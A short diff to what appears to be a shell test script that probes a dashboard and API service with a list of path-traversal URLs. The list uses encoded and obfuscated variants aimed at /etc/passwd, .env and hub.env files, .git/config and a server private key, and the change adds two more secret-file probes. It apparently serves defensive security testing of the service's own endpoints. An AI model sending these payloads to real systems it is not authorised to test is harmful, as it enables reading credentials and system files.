@@ -331,7 +331,7 @@ paths=(/dashboard/../../../../etc/passwd /dashboard/%2e%2e/%2e%2e/%2e%2e/etc/pas
     /dashboard/..%2f..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/etc/passwd
     /dashboard/....//....//etc/passwd /dashboard/%252e%252e/%252e%252e/etc/passwd
     '/dashboard/..%5c..%5cetc%5cpasswd' /dashboard/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
-    /dashboard/ /dashboard/index.html /v1/codes/../../../etc/passwd
+    /dashboard/.env /dashboard/js/../../hub.env /v1/codes/../../../etc/passwd
     /v1/codes/..%2f..%2f..%2fetc%2fpasswd /v1/codes/%2e%2e /v1/codes/strand%00.csv
     /v1/codes/strand.csv /api/codes/strand.csv /sql/001_init.sql /.git/config /var/hub.env
     /certs/server.key '/v1/reports/1%2f..%2f2' /v1/reports/..%2f..%2fcodes)
